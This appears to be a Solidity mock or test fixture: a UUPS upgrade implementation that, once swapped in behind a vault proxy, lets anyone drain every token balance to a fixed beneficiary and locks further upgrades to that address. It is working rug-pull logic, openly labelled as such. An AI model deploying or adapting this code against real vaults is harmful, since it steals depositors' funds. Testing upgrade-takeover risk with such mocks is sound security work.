// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";

/// @title DrainingVaultLogic
/// @notice The logic an upgrader swaps in to rug the vault: `drain` sends the proxy's whole balance
/// of a token to the beneficiary fixed at deployment; only the beneficiary may upgrade again.
contract DrainingVaultLogic is UUPSUpgradeable {
    using SafeERC20 for IERC20;

    error DrainingVaultLogicUnauthorized(address caller);

    address public immutable beneficiary;

    constructor(address beneficiary_) {
        beneficiary = beneficiary_;
    }

    /// @notice Sends everything the proxy holds of `token` to the beneficiary.
    function drain(IERC20 token) external {
        token.safeTransfer(beneficiary, token.balanceOf(address(this)));
    }

    function _authorizeUpgrade(address) internal view override {
        if (msg.sender != beneficiary) revert DrainingVaultLogicUnauthorized(msg.sender);
    }
}
